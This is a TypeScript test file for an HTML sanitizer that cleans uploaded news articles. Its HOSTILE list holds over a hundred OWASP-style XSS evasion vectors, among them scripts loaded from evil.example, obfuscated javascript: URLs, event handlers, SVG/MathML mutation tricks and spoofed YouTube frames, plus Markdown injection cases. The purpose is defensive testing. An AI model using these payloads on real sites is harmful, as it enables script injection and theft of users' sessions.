/** The HTML of an article: the parts that stay, and the parts that are removed, among them everything active. */
import fc from "fast-check";
import type { Element, RootContent } from "hast";
import { fromHtml } from "hast-util-from-html";
import { describe, expect, test } from "vitest";
import { type Base, bodyFromHtml } from "../../../../src/upload/html/html.ts";
import { formatOf } from "../../../../src/upload/formats.ts";
import type { Parsed } from "../../../../src/upload/issue.ts";
import { site } from "../../../support/site.ts";

const BASE: Base = { url: "https://elsewhere.example/desk/story", isKnown: true };

function htmlOf(written: string): string {
  const { body, issues } = bodyFromHtml(written, BASE, {});
  if (body === undefined) throw new Error(`Refused: ${JSON.stringify(issues)}`);
  return body.html;
}

function textOf(written: string): string | undefined {
  return bodyFromHtml(written, BASE, {}).body?.text;
}

/** Reason, what was found, and the sentence where it counts. */
function warningsOf(written: string): [string, string][] {
  return bodyFromHtml(written, BASE, {}).warnings.map(({ reason, found }) => [reason, found]);
}

function issuesOf(written: string): string[] {
  return bodyFromHtml(written, BASE, {}).issues.map(({ reason }) => reason);
}

// A list of the test's own, so that an error in the list of the code is found.
const INERT_ELEMENTS = new Set(
  (
    "a abbr address article aside audio b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl " +
    "dt em figcaption figure footer h2 h3 h4 h5 h6 header hgroup hr i iframe img ins kbd li mark ol p picture pre q rp rt " +
    "ruby s samp section small source span strong sub summary sup table tbody td tfoot th thead time tr track u ul var " +
    "video wbr"
  ).split(" "),
);
const INERT_ATTRIBUTES = new Set(
  (
    "abbr align allowFullScreen alt cite colSpan controls dateTime default dir height href hrefLang kind label lang " +
    "loading loop media muted open poster rel reversed rowSpan sandbox scope sizes span src srcLang srcSet start title " +
    "type value width"
  ).split(" "),
);
const SCHEMES = new Set(["http:", "https:", "mailto:", "tel:"]);
const FRAMES = /^https:\/\/(www\.youtube\.com|www\.youtube-nocookie\.com|player\.vimeo\.com)\//;

/** The parts of a tree that could act, or that aren't known to be harmless. */
function activeIn(nodes: readonly RootContent[]): string[] {
  return nodes.flatMap((node): string[] => {
    if (node.type === "text") return [];
    if (node.type !== "element") return [node.type];
    return [...activeElement(node), ...activeIn(node.children)];
  });
}

function activeElement({ tagName, properties }: Element): string[] {
  const found = INERT_ELEMENTS.has(tagName) ? [] : [tagName];
  for (const [property, value] of Object.entries(properties)) {
    if (!INERT_ATTRIBUTES.has(property)) found.push(`${tagName} ${property}`);
    if (["href", "src", "cite", "poster"].includes(property)) found.push(...activeAddress(value));
    if (property === "srcSet") {
      for (const candidate of String(value).split(", "))
        found.push(...activeAddress(candidate.split(" ")[0]));
    }
  }
  if (tagName === "iframe" && !FRAMES.test(String(properties["src"]))) found.push("iframe of a stranger");
  return found;
}

function activeAddress(value: unknown): string[] {
  const text = String(value);
  return URL.canParse(text) && SCHEMES.has(new URL(text).protocol) ? [] : [text];
}

function expectInert(html: string): void {
  expect(activeIn(fromHtml(html, { fragment: true }).children)).toEqual([]);
}

// Each of them runs, loads or takes over something in some browser, now or in the past. The ideas are those of the OWASP XSS
// Filter Evasion Cheat Sheet and of known ways around parsers.
const HOSTILE: [string, string][] = [
  ["a script", `<script>run()</script>`],
  ["a script from elsewhere", `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`],
  ["a script without a scheme", `<script src=//evil.example/.j>`],
  ["a script with a slash for a blank", `<script/x src="https://evil.example/x.js"></script>`],
  ["a script glued to its source", `<script/src="https://evil.example/x.js"></script>`],
  ["a script after a stray bracket", `<<script>run();//<</script>`],
  ["a script that never ends", `<p>x<script src=https://evil.example/x.js?< b >`],
  ["a script in a broken image", `<img """><script>run()</script>">`],
  ["a script after the end of a title", `</title><script>run()</script>`],
  [
    "a script after the end of everything",
    `*/--></title></style></textarea></script></xmp><svg/onload=run()>`,
  ],
  ["a script with a picture's name", `<script src="https://evil.example/x.jpg"></script>`],
  ["a script with a bracket in an attribute", `<script a=">" src="https://evil.example/x.js"></script>`],
  ["a script hidden in a comment", `<!--[if gte IE 4]><script>run()</script><![endif]-->`],
  ["a script behind a comment that ends early", `<!--><script>run()</script>-->`],
  ["a script behind a comment that ends oddly", `<!--a--!><script>run()</script>-->`],
  ["a script in CDATA", `<![CDATA[<script>run()</script>]]>`],
  ["a script in a processing instruction", `<?xml><script>run()</script>?>`],
  ["an address of JavaScript in a link", `<a href="javascript:run()">x</a>`],
  ["one in capitals", `<a href=JaVaScRiPt:run()>x</a>`],
  ["one in an image", `<img src="javascript:run()">`],
  ["one without quotes", `<img src=javascript:run(String.fromCharCode(88))>`],
  ["one in back quotes", "<img src=`javascript:run()`>"],
  [
    "one in decimal references",
    `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;run()">x</a>`,
  ],
  ["one in padded references", `<a href=&#0000106&#0000097&#0000118&#0000097&#0000115cript:run()>x</a>`],
  ["one in hexadecimal references", `<a href=&#x6A&#x61&#x76&#x61script&#x3A;run()>x</a>`],
  ["one with a named colon", `<a href="javascript&colon;run()">x</a>`],
  ["one with a tab", `<a href="jav\tascript:run()">x</a>`],
  ["one with a referenced tab", `<a href="jav&#x09;ascript:run()">x</a>`],
  ["one with a named tab and a new line", `<a href="java&Tab;script&NewLine;:run()">x</a>`],
  ["one with a line feed", `<a href="jav&#x0A;ascript:run()">x</a>`],
  ["one with a carriage return", `<a href="jav&#x0D;ascript:run()">x</a>`],
  ["one with a NUL", `<a href="java\0script:run()">x</a>`],
  ["one after control characters", `<a href=" &#14;  javascript:run()">x</a>`],
  ["one after a control character", `<a href="\u0001javascript:run()">x</a>`],
  ["an address of VBScript", `<a href='vbscript:msgbox("x")'>x</a>`],
  ["an address of data", `<a href="data:text/html;base64,PHNjcmlwdD5ydW4oKTwvc2NyaXB0Pg==">x</a>`],
  ["an image of data", `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9cnVuKCk+">`],
  ["an address that views the source", `<a href="view-source:javascript:run()">x</a>`],
  ["an address of a blob", `<a href="blob:https://evil.example/1">x</a>`],
  ["an address of a file", `<a href="file:///etc/passwd">x</a>`],
  ["a handler on an image", `<img src=x onerror=run()>`],
  ["a handler after an empty source", `<img src= onmouseover="run()">`],
  ["a handler without a source", `<img onmouseover=run()>`],
  ["a handler glued to its element", `<img/src="x"/onerror=run()>`],
  ["a handler with signs in its name", `<p onload!#$%&()*~+-_.,:;?@[/|\\]^=run()>x</p>`],
  ["a handler in capitals", `<a ONCLICK="run()" href=/x>x</a>`],
  ["a handler on the body", `<body onload=run()>x`],
  ["a handler on details", `<details open ontoggle=run()>x</details>`],
  ["a handler on a video's source", `<video><source onerror="run()"></video>`],
  ["a handler on an audio", `<audio src onloadstart=run()>`],
  ["a handler on a marquee", `<marquee onstart=run()>x</marquee>`],
  ["a handler that takes the focus", `<input autofocus onfocus=run()>`],
  ["a handler on a select", `<select autofocus onfocus=run()><option>x</select>`],
  ["a handler on an animation", `<p style="animation-name:x" onanimationend=run()>x</p>`],
  ["a handler on a pointer", `<p onpointerrawupdate=run()>x</p>`],
  ["a vector image", `<svg/onload=run()>`],
  ["a vector image with a script", `<svg><script>run()</script></svg>`],
  ["a vector image with a link", `<svg><a xlink:href="javascript:run()"><text>x</text></a></svg>`],
  [
    "a vector image that animates a link",
    `<svg><a><animate attributeName=href values=javascript:run() /><text>x</a></svg>`,
  ],
  [
    "a vector image with foreign content",
    `<svg><foreignObject><iframe src=javascript:run()></foreignObject></svg>`,
  ],
  [
    "a vector image that uses data",
    `<svg><use href="data:image/svg+xml,<svg id=x onload=run()>#x"></use></svg>`,
  ],
  ["a formula with a link", `<math><mi xlink:href="javascript:run()">x</mi></math>`],
  [
    "a formula that hides an image",
    `<math><mtext><table><mglyph><style><img src=x onerror=run()></style></mglyph></table></mtext></math>`,
  ],
  ["a frame of JavaScript", `<iframe src="javascript:run()"></iframe>`],
  ["a frame with a document", `<iframe srcdoc="<script>run()</script>"></iframe>`],
  ["a frame of a stranger", `<iframe src=https://evil.example/></iframe>`],
  ["a frame of a false friend", `<iframe src=https://www.youtube.com.evil.example/embed/x></iframe>`],
  ["a frame of a friend's other page", `<iframe src=https://www.youtube.com/redirect?q=evil></iframe>`],
  [
    "a frame with a friend for a user",
    `<iframe src="https://www.youtube.com@evil.example/embed/x"></iframe>`,
  ],
  [
    "a frame of a friend that asks for more",
    `<iframe src=https://www.youtube.com/embed/x srcdoc="<script>run()</script>" onload=run() allow=camera></iframe>`,
  ],
  ["a frame without an end", `<iframe src=https://evil.example/x <`],
  ["a set of frames", `<frameset><frame src="javascript:run()"></frameset>`],
  ["an object", `<object type="text/x-scriptlet" data="https://evil.example/x.html"></object>`],
  ["an embedded image", `<embed src="data:image/svg+xml;base64,PHN2Zz4=" type="image/svg+xml">`],
  ["an applet", `<applet code="x" archive="https://evil.example/x.jar"></applet>`],
  ["a refresh", `<meta http-equiv="refresh" content="0;url=javascript:run()">`],
  ["a cookie", `<meta http-equiv="Set-Cookie" content="a=<script>run()</script>">`],
  ["a style sheet", `<link rel="stylesheet" href="https://evil.example/x.css">`],
  ["a style", `<style>@import'https://evil.example/x.css';</style>`],
  ["a style with a binding", `<style>body{-moz-binding:url("https://evil.example/x.xml#x")}</style>`],
  ["a style attribute", `<p style="background-image:url(javascript:run())">x</p>`],
  ["an expression in a style", `<p style="width:expression(run())">x</p>`],
  ["a base", `<base href="javascript:run();//"><a href=x>x</a>`],
  [
    "a background of a table",
    `<table background="javascript:run()"><tr><td background="javascript:run()">x</table>`,
  ],
  ["old sources of an image", `<img dynsrc="javascript:run()" lowsrc="javascript:run()" src=x>`],
  ["a background sound", `<bgsound src="javascript:run()">`],
  ["a picture button", `<input type=image src="javascript:run()">`],
  ["a form", `<form action="javascript:run()"><button formaction="javascript:run()">x</button></form>`],
  ["a form that is referred to", `<form id=f></form><button form=f formaction="javascript:run()">x</button>`],
  ["an image that lists JavaScript", `<img alt="" src=x srcset="javascript:run() 1x, y 2x">`],
  ["a poster of JavaScript", `<video poster="javascript:run()" src=x></video>`],
  ["a quotation from JavaScript", `<blockquote cite="javascript:run()">x</blockquote>`],
  ["a ping", `<a href=/x ping="https://evil.example/">x</a>`],
  [
    "names that shadow the document's",
    `<img name=getElementById src=x><a id=location name=cookie href=/x>x</a>`,
  ],
  ["a template", `<template><script>run()</script></template>`],
  ["a shadow root", `<div><template shadowrootmode=open><script>run()</script></template></div>`],
  [
    "an attribute that ends noscript",
    `<noscript><p title="</noscript><img src=x onerror=run()>"></noscript>`,
  ],
  ["an attribute that ends a style", `<svg></p><style><a id="</style><img src=1 onerror=run()>">`],
  [
    "an attribute that ends a textarea",
    `<textarea><p title="</textarea><img src=x onerror=run()>"></textarea>`,
  ],
  ["an element of one's own", `<x onclick=run() style="behavior:url(x.htc)">x</x>`],
  [
    "a data island",
    `<xml id=i><b><img src="javas<!-- -->cript:run()"></b></xml><span datasrc=#i datafld=b></span>`,
  ],
  ["elements that change places", `<table><a href=javascript:run()><tr><td>x</table>`],
  ["a portal", `<portal src="javascript:run()"></portal>`],
  ["seven-bit brackets", `¼script¾run()¼/script¾<p>x`],
  ["UTF-7 brackets", `+ADw-script+AD4-run()+ADw-/script+AD4-`],
  ["references of brackets", `&lt;script&gt;run()&lt;/script&gt;`],
  ["references of references", `&amp;lt;script&amp;gt;run()`],
  ["brackets that composing would make", `<p>\u0338script\u0338run()</p>&lt;\u0338img src=x onerror=run()>`],
  ["JavaScript that a script would load as a picture", `<img src=x data-src="javascript:run()" alt="">`],
  ["JavaScript that a script would load as a size", `<img src=x data-srcset="javascript:run() 1x" alt="">`],
  ["JavaScript that a script would load in a frame", `<iframe data-src="javascript:run()"></iframe>`],
  ["a handler for readers without scripts", `<noscript><img src=x onerror=run()></noscript>`],
  ["a frame for readers without scripts", `<noscript><iframe src=javascript:run()></iframe></noscript>`],
  ["an object with a movie of JavaScript", `<object><param name=movie value=javascript:run()></object>`],
  [
    "an object that holds a script",
    `<object data=x><script>run()</script><a href=javascript:run()>x</a></object>`,
  ],
  [
    "a frame with a title of markup",
    `<iframe src=https://evil.example/ title="<script>run()</script>"></iframe>`,
  ],
  [
    "a player of nothing that holds a script",
    `<video><script>run()</script><img src=x onerror=run()></video>`,
  ],
  [
    "a film of JavaScript with a poster of it",
    `<video src=javascript:run() poster=javascript:run()></video>`,
  ],
  ["a picture without one", `<picture><source srcset="javascript:run()" onerror=run()></picture>`],
  ["a false friend's old player", `<embed src="https://www.youtube.com.evil.example/v/x">`],
  ["an end of plain text", `<plaintext><script>run()</script>`],
  ["a listing", `<xmp><script>run()</script></xmp><listing><img src=x onerror=run()></listing>`],
];

function uploaded(type: string, document: unknown): Parsed {
  const parse = formatOf(type)?.parse;
  if (parse === undefined) throw new Error(`No parser for ${type}`);
  const text = typeof document === "string" ? document : JSON.stringify(document);
  return parse(new TextEncoder().encode(text), site);
}

/** The HTML that the parser of each format makes of it, after a paragraph that keeps it from being empty. */
function inEveryFormat(vector: string): string[] {
  const written = `<p>Before.</p>\n\n${vector}`;
  const time = "2025-11-04T07:07:06Z";
  const item = { title: "x", date_published: time, sections: ["Politics"] };
  const ninjs = {
    uri: "urn:x:1",
    pubstatus: "usable",
    versioncreated: time,
    subjects: [{ name: "Politics" }],
  };
  const texts = { headlines: [{ value: "x" }], bodies: [{ contenttype: "text/html", value: written }] };
  const parsed = [
    uploaded("application/json", { ...item, content_html: written }),
    uploaded("application/json", { ...item, content_markdown: written }),
    uploaded("application/json", { ...item, content_text: written }),
    uploaded(
      "text/markdown",
      `---\ntitle: x\ndate_published: ${time}\nsections: [Politics]\n---\n${written}`,
    ),
    uploaded("application/vnd.iptc.ninjs+json", { ...ninjs, ...texts }),
  ];
  return parsed.map((one) => {
    if (!one.ok) throw new Error(`Refused: ${JSON.stringify(one.issues)}`);
    return one.upload.action === "withdraw" ? "" : one.upload.draft.html;
  });
}

describe("an element that a page hides from its readers is removed, with a warning, where it is", () => {
  test.each([
    ["hidden", "<p>A</p><p hidden>Hush</p>", "p Hush"],
    ["hidden until it is found", '<p>A</p><div hidden="until-found"><b>Hush</b></div>', "div Hush"],
    [
      "not displayed",
      '<p>A</p><div style="color:red; display: none">Hush <a href="/b">b</a></div>',
      "div Hush b",
    ],
    ["not visible", '<p>A</p><span style="VISIBILITY:hidden">Hush</span>', "span Hush"],
  ])("%s", (_what, written, found) => {
    expect(htmlOf(written).trim()).toBe("<p>A</p>");
    expect(warningsOf(written)).toEqual([["concealed-element", found]]);
  });

  test("hidden, unless it is a picture that a script would show", () => {
    expect(htmlOf('<img style="display:none" data-src="b.jpg" alt="B">')).toContain("/desk/b.jpg");
  });
});

describe("nothing active stays, in any format:", () => {
  test.each(HOSTILE)("%s", (_what, vector) => {
    for (const html of inEveryFormat(vector)) expectInert(html);
  });

  test.each([
    ["a link", "[x](javascript:run())"],
    ["a link in capitals", "[x](JaVaScRiPt:run())"],
    ["a link in references", "[x](&#106;avascript&colon;run())"],
    ["a link in brackets", "[x](<javascript:run()>)"],
    ["an autolink", "<javascript:run()>"],
    ["a definition", "[x]\n\n[x]: javascript:run()"],
    ["an image", "![x](javascript:run())"],
    ["an image of data", "![x](data:image/svg+xml;base64,PHN2Zz4=)"],
    ["a title that closes its attribute", '[x](/y "\\"onmouseover=run()")'],
    ["an alternative that closes its attribute", '![" onerror="run()](/y)'],
    ["a language that closes its attribute", '```"><script>run()</script>\nx\n```'],
    ["a footnote", "x[^1]\n\n[^1]: <img src=x onerror=run()>"],
    ["a table", "| a |\n|---|\n| <img src=x onerror=run()> |"],
    ["HTML that a paragraph interrupts", "<a href='\n\n[x](y)'onclick=run()'>"],
  ])("in Markdown: %s", (_what, vector) => {
    for (const html of inEveryFormat(vector)) expectInert(html);
  });

  test("in any sequence of pieces of markup", () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE.map(([, vector]) => vector)),
      fc.constantFrom(
        "<p>",
        "</p>",
        "<b>",
        "</b>",
        "<a href=x>",
        "<table>",
        "<td>",
        "<svg>",
        "<math>",
        "<style>",
      ),
      fc.constantFrom(
        "<!--",
        "-->",
        "<title>",
        "<select>",
        "<template>",
        "<li>",
        "<h2>",
        "<button>",
        "<pre>\n\n",
      ),
      fc.constantFrom(
        "</table>",
        "</svg>",
        "</form>",
        "<form>",
        "<mtext>",
        "<desc>",
        "<noscript>",
        "\0",
        "\r",
        '"',
        ">",
      ),
      fc.string({ unit: "binary", maxLength: 8 }),
    );
    const pieces = fc.array(piece, { maxLength: 14 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(pieces, (written) => {
        const first = bodyFromHtml(written, BASE, {});
        const html = first.body?.html ?? "";
        expectInert(html);
        const second = bodyFromHtml(html, BASE, {});
        // Only the warning of an image without alt text may come again: the image still has none.
        const repeated = second.warnings.filter(({ reason }) => reason !== "image-without-alt");
        const issues = html === "" ? ["missing-body"] : [];
        expect(first.issues.map(({ reason }) => reason)).toEqual(issues);
        expect({ body: second.body, warnings: repeated }).toEqual({ body: first.body, warnings: [] });
      }),
      { numRuns: 200 },
    );
  });
});

describe("an article's HTML keeps", () => {
  test.each([
    [
      "paragraphs and phrases",
      '<p>A <em>b</em> <strong>c</strong> <code>d</code> <q cite="https://a.example/">e</q></p>',
    ],
    ["headings", "<h2>A</h2><h3>B</h3><h6>C</h6>"],
    [
      "figures with their credit",
      '<figure><img src="https://a.example/b.jpg" alt="B" width="600" height="400"><figcaption>C <small>Photo: D</small></figcaption></figure>',
    ],
    [
      "pictures in several sizes",
      '<picture><source srcset="https://a.example/b.webp 1x, https://a.example/c.webp 2x" type="image/webp"><img src="https://a.example/b.jpg" alt=""></picture>',
    ],
    [
      "films and sounds",
      '<video src="https://a.example/b.mp4" poster="https://a.example/b.jpg" controls><track src="https://a.example/b.vtt" kind="captions" srclang="en"></video>',
    ],
    [
      "tables",
      '<table><caption>A</caption><thead><tr><th scope="col" colspan="2">B</th></tr></thead><tbody><tr><td rowspan="2">C</td><td align="right">D</td></tr></tbody></table>',
    ],
    [
      "lists",
      '<ul><li>A</li></ul><ol start="3" reversed><li value="7">B</li></ol><dl><dt>C</dt><dd>D</dd></dl>',
    ],
    ["quotations", '<blockquote cite="https://a.example/"><p>A</p></blockquote>'],
    ["what was inserted and deleted, and when", '<p><ins datetime="2026-01-01">A</ins><del>B</del></p>'],
    ["code", "<pre><code>a\n  b\n</code></pre>"],
    ["details", "<details open><summary>A</summary><p>B</p></details>"],
    ["times and abbreviations", '<p><time datetime="2026-01-01">A</time> <abbr title="B">C</abbr></p>'],
    ["directions and languages", '<p dir="rtl" lang="ar">عربي <bdi>A</bdi> <bdo dir="ltr">B</bdo></p>'],
    ["ruby", "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>"],
    [
      "links to pages, letter boxes and telephones",
      '<p><a href="https://a.example/" rel="nofollow">A</a> <a href="mailto:a@a.example">B</a> <a href="tel:+1234">C</a></p>',
    ],
    ["text that looks like markup", "<p>1 &lt; 2 &amp;&amp; 3 > 2</p>"],
  ])("%s", (_what, written) => {
    expect({ html: htmlOf(written), warnings: warningsOf(written) }).toEqual({ html: written, warnings: [] });
  });

  test("players of a few hosts, in a sandbox", () => {
    expect(htmlOf('<iframe width=560 height=315 src="https://www.youtube.com/embed/x"></iframe>')).toBe(
      '<iframe width="560" height="315" src="https://www.youtube.com/embed/x" title="YouTube" allowfullscreen loading="lazy" ' +
        'sandbox="allow-scripts allow-same-origin allow-presentation allow-popups"></iframe>',
    );
  });
});

describe("an article's HTML", () => {
  test("has absolute addresses", () => {
    const written =
      '<a href="../x?a=1&b=2">A</a><a href=//b.example>B</a><img src=c.jpg alt="" srcset="c.jpg, d.jpg 2x">';
    expect(htmlOf(written)).toBe(
      '<a href="https://elsewhere.example/x?a=1&amp;b=2">A</a><a href="https://b.example/">B</a>' +
        '<img src="https://elsewhere.example/desk/c.jpg" alt="" ' +
        'srcset="https://elsewhere.example/desk/c.jpg, https://elsewhere.example/desk/d.jpg 2x">',
    );
  });

  test("may have commas in the addresses of its pictures' sizes", () => {
    expect(htmlOf('<img src=a alt="" srcset="w_1,h_2/a.jpg 1x,w_2,h_4/a.jpg 2x">')).toContain(
      'srcset="https://elsewhere.example/desk/w_1,h_2/a.jpg 1x, https://elsewhere.example/desk/w_2,h_4/a.jpg 2x"',
    );
  });

  test("has no heading of the first level, which is the page's own", () => {
    expect(htmlOf("<h1>A</h1><p>B</p>")).toBe("<h2>A</h2><p>B</p>");
  });

  test("loses its comments without a warning", () => {
    const written = "<p>A<!-- b --></p>";
    expect([htmlOf(written), warningsOf(written)]).toEqual(["<p>A</p>", []]);
  });

  test("shows the boxes of tasks as characters", () => {
    const box = '<input type="checkbox" disabled';
    expect(htmlOf(`<ul><li>${box} checked> A</li><li>${box}> B</li></ul>`)).toBe(
      "<ul><li>☑ A</li><li>☐ B</li></ul>",
    );
  });

  test("loses what it may not hold, with a warning for each kind", () => {
    const written =
      '<p onclick="run()" style="color:red" data-a=1 data-b=2 id=x>A <script>run()</script><script></script>' +
      '<blink>B</blink> <a href="javascript:run()">C</a> <img src=d.jpg></p>';
    const { body, warnings } = bodyFromHtml(written, BASE, { path: "/content_html" });
    expect(body?.html).toBe('<p>A B C <img src="https://elsewhere.example/desk/d.jpg"></p>');
    expect(warnings.map(({ path, field, reason, found }) => [path, field, reason, found])).toEqual([
      ["/content_html", "body", "removed-element", "script"],
      ["/content_html", "body", "unwrapped-element", "blink"],
      ["/content_html", "body", "removed-url", "javascript:run()"],
      ["/content_html", "body", "image-without-alt", "https://elsewhere.example/desk/d.jpg"],
      ["/content_html", "body", "removed-attribute", "onclick"],
      ["/content_html", "body", "removed-attribute", "style"],
      ["/content_html", "body", "removed-attribute", "data-*"],
      ["/content_html", "body", "removed-attribute", "id"],
    ]);
    expect(warnings.find(({ found }) => found === "script")?.detail).toBe(
      "An article can’t carry this element: it was removed with its content, 2 times.",
    );
  });

  test("gets a short list of warnings, however much is wrong with it", () => {
    const written = Array.from({ length: 500 }, (_, index) => `<x${index}>a</x${index}>`).join("");
    const { warnings } = bodyFromHtml(written, BASE, {});
    expect(warnings).toHaveLength(20);
    expect(warnings.at(-1)?.detail).toBe(
      "An article can’t carry this element: its content stays; the same holds for 480 others.",
    );
  });

  test("has no characters that no feed can carry, and is composed", () => {
    const written = "<p title='a&#7;'>Cafe\u0301\u0007 b&#x1;</p>";
    expect([htmlOf(written), warningsOf(written)]).toEqual([
      '<p title="a">Caf\u00E9 b</p>',
      [["forbidden-characters", "U+0007 U+0001"]],
    ]);
  });

  test.each([
    ["nothing", ""],
    ["white space", " \n\u00A0"],
    ["empty paragraphs", "<p></p><p> </p>"],
    ["a script alone", "<script>run()</script>"],
    ["an image that may not stay", '<img src="data:image/png;base64,AA" alt="x">'],
  ])("is missing where it is %s", (_what, written) => {
    expect(issuesOf(written)).toEqual(["missing-body"]);
  });

  test("is not missing where it is a picture alone", () => {
    expect(issuesOf('<img src="a.jpg" alt="A">')).toEqual([]);
  });

  test.each([
    ["elements nested a hundred thousand deep", "too-deep", "<div>".repeat(100_000)],
    [
      "formatting that every paragraph repeats",
      "too-many-elements",
      `${"<b><i>".repeat(9)}${"<p>x".repeat(200_000)}`,
    ],
    ["a million elements", "too-many-elements", "<br>".repeat(250_000)],
    ["a body that grows beyond bounds", "too-long", "&".repeat(1_000_000)],
  ])("is refused quickly with %s", (_what, reason, written) => {
    expect(issuesOf(written)).toEqual([reason]);
  });
});

describe("the plain text of HTML", () => {
  test("has a blank line between blocks, and none in lists and tables", () => {
    const written =
      "<h2>A</h2><p>B<br>b</p><ul><li>C</li><li>D</li></ul><div>E</div><div>F</div>" +
      "<table><caption>G</caption><tr><th>H</th><td>I</td></tr><tr><td>J</td><td>K</td></tr></table><p>L</p>";
    expect(textOf(written)).toBe("A\n\nB\nb\n\nC\nD\n\nE\n\nF\n\nG\n\nH\tI\nJ\tK\n\nL");
  });

  test("keeps the lines of code", () => {
    expect(textOf("<p>A</p><pre>b\n  c\n</pre>")).toBe("A\n\nb\n  c");
  });

  test("folds white space as a browser does", () => {
    expect(textOf("<p>\n  A\n  <b>b</b>\n c\n</p>")).toBe("A b c");
  });
});
